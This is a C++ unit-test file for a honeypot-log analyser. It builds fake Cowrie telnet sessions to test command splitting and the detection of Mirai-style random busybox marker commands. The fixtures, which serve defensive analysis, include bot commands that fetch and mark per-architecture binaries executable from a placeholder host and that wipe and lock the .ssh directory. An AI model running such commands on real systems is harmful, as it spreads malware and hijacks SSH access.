// Markers and steps (steps.hpp): segments, marker keys, the data-driven marker decision and
// the steps that leave-type analyses see.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis_fixture.hpp"
#include "cb/analysis/basic_tables.hpp"
#include "cb/parse/command_names.hpp"
#include "cb/session/steps.hpp"

using namespace cb;

namespace {

std::vector<std::string> texts(std::string_view line) {
    std::vector<Segment> segs;
    split_segments(line, segs);
    std::vector<std::string> v;
    for (const auto& s : segs) v.emplace_back(s.text);
    return v;
}

// One telnet session per command list (shell), closed by the client.
std::string session_log(const std::string& sid, const std::vector<std::string>& commands) {
    auto ev = [&](const std::string& id, int sec, const std::string& extra) {
        char ts[40];
        std::snprintf(ts, sizeof ts, "2026-11-20T10:%02d:%02dZ", sec / 60, sec % 60);
        return R"({"eventid":")" + id + R"(","timestamp":")" + ts + R"(","session":")" + sid +
               R"(","sensor":"s1","src_ip":"10.0.0.1")" + (extra.empty() ? "" : "," + extra) + "}\n";
    };
    std::string log = ev("cowrie.session.connect", 0, R"("protocol":"telnet")");
    int t = 1;
    for (const auto& c : commands) {
        std::string esc;
        for (char ch : c) {
            if (ch == '"' || ch == '\\') esc.push_back('\\');
            esc.push_back(ch);
        }
        log += ev("cowrie.command.input", t++, R"("input":")" + esc + "\"");
    }
    return log + ev("cowrie.session.closed", t, "");
}

}  // namespace

TEST(Steps, SplitsAtTopLevelSeparatorsOnly) {
    EXPECT_EQ(texts("cat /proc/mounts; /bin/busybox HSGBV"),
              (std::vector<std::string>{"cat /proc/mounts", "/bin/busybox HSGBV"}));
    EXPECT_EQ(texts("cd /tmp || cd /var && wget x;echo 'a;b' ; (/bin/busybox X || :)"),
              (std::vector<std::string>{"cd /tmp", "cd /var", "wget x", "echo 'a;b'", "(/bin/busybox X || :)"}));
    EXPECT_EQ(texts("cat x | grep y &"), (std::vector<std::string>{"cat x | grep y &"}));
    EXPECT_EQ(texts("while read i; do echo $i; done"),
              (std::vector<std::string>{"while read i", "do echo $i", "done"}));
}

TEST(Steps, MarkerKeysAlignRandomApplets) {
    TemplateCache cache;
    const std::string k = marker_key("/bin/busybox HSGBV", cache);
    EXPECT_EQ(k, marker_key("/bin/busybox qwzkx", cache));
    EXPECT_EQ(k, marker_key("(/bin/busybox ECCHI || :)", cache));
    EXPECT_NE(k, marker_key("/bin/busybox wget", cache));  // a real applet stays itself
    EXPECT_TRUE(is_known_command("wget"));
    EXPECT_TRUE(is_known_command("nproc"));
    EXPECT_FALSE(is_known_command("lockr"));
    EXPECT_FALSE(is_known_command("linuxshell"));
    EXPECT_TRUE(is_closer("exit 0"));
    EXPECT_FALSE(is_closer("exiting"));
}

// Mirai-like: a random marker after every step (a new word per session). Some sessions are
// cut short after the first step, having run the marker only once; the marker is still found
// (from the sessions that went on) and never becomes their last step.
TEST(Steps, MarkersFromDataAndLastStep) {
    std::string log;
    for (int i = 0; i < 12; ++i) {
        const std::string m = std::string("/bin/busybox ") + static_cast<char>('A' + i) + "QZKX";
        std::vector<std::string> cmds = {"enable", "cat /proc/mounts; " + m, "cd /dev/shm; " + m};
        if (i % 3 != 0) cmds.insert(cmds.end(), {"tftp; wget; " + m, m, "rm .s; exit"});
        log += session_log("s" + std::to_string(i), cmds);
    }
    // A loop over architectures repeats a template, never the same text: no marker.
    for (int i = 0; i < 5; ++i)
        log += session_log("d" + std::to_string(i), {"cd /tmp", "wget http://h/x86", "chmod +x x86",
                                                     "wget http://h/arm", "chmod +x arm", "wget http://h/mips"});
    StringPool pool;
    auto sessions = cbtest::ingest(log, pool);
    const MarkerStats stats = collect_markers(sessions, 2);
    const MarkerSet markers = stats.finish();
    TemplateCache cache;
    EXPECT_TRUE(markers.contains(marker_key("/bin/busybox AQZKX", cache)));
    EXPECT_FALSE(markers.contains(marker_key("wget http://h/x86", cache)));
    EXPECT_FALSE(markers.contains(marker_key("chmod +x x86", cache)));
    EXPECT_EQ(markers.keys().size(), 1u) << markers.encode();

    std::vector<StringPool> pools;
    assign_last_steps(sessions, markers, 2, pools);
    for (const Session& s : sessions) {
        const bool cut =
            s.session[0] == 's' && (s.session == "s0" || s.session == "s3" || s.session == "s6" || s.session == "s9");
        if (s.session[0] == 'd')
            EXPECT_EQ(s.last_step, "wget http://h/mips");
        else if (cut)
            EXPECT_EQ(s.last_step, "cd /dev/shm") << s.session;
        else
            EXPECT_EQ(s.last_step, "rm .s") << s.session;  // the marker line and exit are no steps
    }
    Steps st;
    session_steps(sessions.front(), markers, cache, st);
    ASSERT_FALSE(st.text.empty());
    EXPECT_EQ(st.line.size(), st.text.size());
    EXPECT_EQ(MarkerSet::decode(markers.encode()).keys(), markers.keys());
}

// Two commands repeated in turn (a bot retrying its pair) are no markers: neither is rarer.
TEST(Steps, AlternatingPairIsNoMarker) {
    std::string log;
    for (int i = 0; i < 6; ++i) log += session_log("p" + std::to_string(i), {"uname -a", "id", "uname -a", "id", "w"});
    StringPool pool;
    auto sessions = cbtest::ingest(log, pool);
    EXPECT_TRUE(collect_markers(sessions, 1).finish().keys().empty());
}

// A prefix a bot puts before every line (`cd ~; ...`) repeats between steps too, but it starts
// the lines it is in: no marker.
TEST(Steps, LinePrefixIsNoMarker) {
    std::string log;
    for (int i = 0; i < 6; ++i)
        log += session_log("c" + std::to_string(i), {"cd ~; chattr -ia .ssh; lockr -ia .ssh",
                                                     "cd ~ && rm -rf .ssh && mkdir .ssh", "cd ~; uname -a"});
    StringPool pool;
    auto sessions = cbtest::ingest(log, pool);
    const MarkerStats stats = collect_markers(sessions, 1);
    EXPECT_TRUE(stats.finish().keys().empty());
    const Table t = markers_table(stats, stats.finish());
    ASSERT_FALSE(t.rows.empty());
    EXPECT_EQ(std::get<std::string>(t.rows[0][0]), "cd ~");
}

// The stats of all sessions less those of some are the stats of the others, to the byte: a
// checkpoint keeps its settled sessions' this way (all of a run's, less the ones held open).
TEST(Steps, SubtractedStatsAreThoseOfTheOthers) {
    std::string log;
    for (int i = 0; i < 8; ++i) {
        const std::string m = "echo M" + std::to_string(i % 2);
        log += session_log("s" + std::to_string(i), {"cd /tmp", m, "uname -a", m, i % 3 ? "w" : "id"});
    }
    StringPool pool;
    auto sessions = cbtest::ingest(log, pool);
    ASSERT_EQ(sessions.size(), 8u);
    const std::vector<Session> some(sessions.begin(), sessions.begin() + 3),
        others(sessions.begin() + 3, sessions.end());
    MarkerStats all = collect_markers(sessions, 2);
    all.subtract(collect_markers(some, 1));
    std::string got, want;
    all.save(got);
    collect_markers(others, 1).save(want);
    EXPECT_EQ(got, want);
    all.subtract(collect_markers(others, 1));
    EXPECT_TRUE(all.stats().empty());
}
